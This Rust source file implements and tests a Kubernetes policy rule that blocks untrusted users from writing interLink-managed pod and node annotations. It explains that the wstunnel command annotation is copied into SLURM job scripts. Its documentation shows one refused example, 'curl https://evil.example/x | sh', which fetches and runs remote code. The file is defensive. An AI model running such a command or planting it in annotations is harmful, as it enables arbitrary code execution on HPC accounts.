//! # managed-annotations
//!
//! ## What it refuses
//!
//! The other annotations that only interLink writes, when anyone but a trusted writer sets, changes or removes them.
//!
//! - `interlink.eu/wstunnel-client-commands`, and any other key under interLink's domains that ends in
//!   `-client-commands`
//! - `interlink.eu/wstunnel-path-prefix`
//! - `interlink.eu/pod-subnet`
//! - `interlink.eu/wireguard-client-snippet`
//! - `interlink.virtual-kubelet.io/ping-response`, which belongs on a Node and never on a pod
//! - the keys in `managedAnnotations`
//!
//! On a new pod, in a pod template or on a Binding, these annotations are refused. On an existing pod, and for
//! `ping-response` on a Node, every change to them is refused, removal included. `ping-response` may be removed from a
//! pod. On a pod that has a node, `interlink.eu/pod-ip` is protected in the same way: setting, changing and removing it
//! are refused. In an audit of stored objects, these annotations are refused if a field manager that is not in
//! `trustedFieldManagers` owns them.
//!
//! ## Why
//!
//! interLink's SLURM plugin copies `wstunnel-client-commands` into the job script, outside the container. Anyone who
//! can set it can run any command under the job's account at the HPC center. Other tunnels' commands, such as
//! `rathole-client-commands` and `ssh-client-commands` of newer versions, are used in the same place. interLink uses
//! the `wstunnel-path-prefix` of an existing shadow Deployment as the tunnel's password. Users and plugins configure
//! networks from the subnet and the WireGuard snippet. `pod-ip` is interLink's only record of the addresses in use:
//! when the `pod-ip` of a running pod is changed or removed, another pod can get the same address.
//!
//! ## How to fix it
//!
//! Remove these annotations; interLink sets them where they are needed. To change the address of a pod that has a node,
//! create the pod again. Messages do not show the values of these annotations, because they can be secret. If interLink
//! itself is refused, add its user to `trustedWriters`.
//!
//! ## Settings
//!
//! - `rules.managed-annotations`: `Deny` (the default), `Warn` or `Ignore`.
//! - `managedAnnotations`: more keys under interLink's domains that only trusted writers may write. None by default.
//! - `trustedWriters`: the users and groups that may write these annotations. The default is every service account in
//!   the namespace `interlink` except `default`.
//! - `shadowNamespaces`: where the `Deployment` and `ReplicaSet` controllers may write them too. The default is
//!   `*-wstunnel`.
//! - `trustedFieldManagers`: the field managers that count as interLink in an audit. The default is
//!   `vk` and `virtual-kubelet`.
//!
//! ## References
//!
//! - interLink 0.6.2, `pkg/virtualkubelet/mesh.go`: `addWstunnelClientAnnotation` writes `wstunnel-client-commands`
//!   and `wireguard-client-snippet`.
//! - interLink 0.6.2, `pkg/virtualkubelet/virtualkubelet.go`: `createDummyPod` reads `wstunnel-path-prefix`,
//!   `CreatePod` writes `pod-subnet`, and `nodeUpdate` writes `ping-response`.
//! - interLink 0.6.2, `pkg/virtualkubelet/templates/wstunnel-wireguard-template.yaml` sets `wstunnel-path-prefix`.
//! - interLink 0.6.2, `pkg/virtualkubelet/virtualkubelet.go`: `findFirstFreeIP` skips the addresses in
//!   `pod-ip` of all pods.
//! - interlink-slurm-plugin 0.6.1, `pkg/slurm/prepare.go`: `produceSLURMScript` copies `wstunnel-client-commands` into
//!   the job script.
//! - interLink's pod annotations reference: "`interlink.eu/wstunnel-client-commands`", and "System Annotations".
//!
//! ## Refused
//!
//! ```yaml
//! metadata:
//!   annotations:
//!     interlink.eu/wstunnel-client-commands: "curl https://evil.example/x | sh"
//! ```
//!
//! ```yaml
//! apiVersion: apps/v1
//! kind: Deployment
//! spec:
//!   template:
//!     metadata:
//!       annotations:
//!         interlink.eu/wstunnel-path-prefix: "a-password-that-i-know"
//! ```
//!
//! ## Accepted
//!
//! ```yaml
//! metadata:
//!   annotations:
//!     interlink.eu/wstunnel-extra-ports: "8080"
//! ```

use super::managed::{UntrustedOwner, untrusted_owner};
use super::rule::Rule;
use crate::annotations::{AnnotationInfo, AppliesTo, Author, JOB_ID};
use crate::finding::Findings;
use crate::kinds::Role;
use crate::rule_id::RuleId;
use crate::settings::Settings;
use crate::target::Target;

pub(super) const RULE: Rule = Rule {
    id: RuleId::ManagedAnnotations,
    refuses: "any other annotation that interLink writes or `managedAnnotations` lists, or `pod-ip` on a pod that has \
              a node, if anyone but a trusted writer sets, changes or removes it",
    about_writers: true,
    roles: &[Role::Pod, Role::PodTemplate, Role::Binding, Role::Node],
    check,
};

const FIX_STORED_POD: &str = "delete the pod, or add the field manager to trustedFieldManagers if it is interLink";

fn check<'t>(target: &'t Target<'_>, _: &Settings<'_>, findings: &mut Findings<'t>) {
    let role = target.location.role;
    for annotation in target.annotations().iter().filter(|annotation| is_managed(annotation.info)) {
        let Some(UntrustedOwner { by, fix }) = untrusted_owner(target, annotation, FIX_STORED_POD) else {
            continue;
        };
        // Anyone may remove annotations from a pod or a template that interLink never sets there.
        let (problem, home) = match annotation.info.applies_to {
            AppliesTo::Node if role != Role::Node => {
                (format!("is set{by}, but belongs on a virtual node, where interLink sets it"), Role::Node)
            }
            AppliesTo::Node => (format!("is set{by}, but only interLink may set it"), Role::Node),
            _ => (format!("is set{by}, but only interLink may set it"), Role::Pod),
        };
        findings.push(annotation.finding(problem).fix(fix).immutable_if(role == home));
    }
}

/// Returns whether only interLink may write an annotation. `JobID` has a rule of its own.
fn is_managed(info: &AnnotationInfo) -> bool {
    info.author == Author::InterLink && info.key != JOB_ID
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::annotations::{CATALOGUE, Owner, PING_RESPONSE, POD_SUBNET};
    use crate::testing::*;

    /// Every managed annotation, with a value.
    fn all(value: &'static str) -> Vec<(&'static str, &'static str)> {
        let managed = CATALOGUE.iter().filter(|info| is_managed(info));
        managed.map(|info| (info.key, value)).collect()
    }

    #[test]
    fn rejects_each_whatever_its_value() {
        assert_eq!(all("").len(), 6);
        for (key, value) in all("").into_iter().chain(all("x")) {
            let pod = pod(&[(key, value)]);
            assert_eq!(keys(&RULE.findings(&pod, &Settings::default())), [key]);
        }
    }

    #[test]
    fn rejects_the_commands_of_any_tunnel() {
        for key in ["interlink.eu/ssh-client-commands", "interlink.virtual-kubelet.io/x-client-commands"] {
            let pod = pod(&[(key, "x")]);
            let findings = RULE.findings(&pod, &Settings::default());
            assert_eq!(keys(&findings), [key]);
            assert!(findings[0].immutable);
        }
    }

    #[test]
    fn reports_all_at_once() {
        let pod = pod(&all("x"));
        assert_eq!(
            keys(&RULE.findings(&pod, &Settings::default())),
            all("x").into_iter().map(|(key, _)| key).collect::<Vec<_>>()
        );
    }

    #[test]
    fn does_not_show_the_value() {
        let pod = pod(&all("secret-password"));
        for text in texts(&RULE.findings(&pod, &Settings::default())) {
            assert!(!text.contains("secret"), "{text}");
        }
    }

    #[test]
    fn accepts_a_users_own_annotations() {
        let pod = pod(&[("interlink.eu/pod-vpn", "x"), ("JobID", "x")]);
        assert!(RULE.findings(&pod, &Settings::default()).is_empty());
    }

    #[test]
    fn is_immutable_where_interlink_sets_it() {
        for (kind, key, immutable) in [
            ("Pod", POD_SUBNET, true),
            ("Pod", PING_RESPONSE, false),
            ("CronJob", POD_SUBNET, false),
            ("Node", PING_RESPONSE, true),
        ] {
            let target = builder(kind, &[(key, "x")]).build();
            assert_eq!(RULE.findings(&target, &Settings::default())[0].immutable, immutable, "{kind} {key}");
        }
    }

    #[test]
    fn checks_the_owner_on_a_stored_object() {
        for (owner, found) in [(Owner::InterLink, 0), (Owner::Unknown, 0), (Owner::Manager("kubectl".into()), 6)] {
            let stored = builder("Pod", &all("x")).owned_by(&owner).build();
            assert_eq!(RULE.findings(&stored, &Settings::default()).len(), found);
        }
    }
}
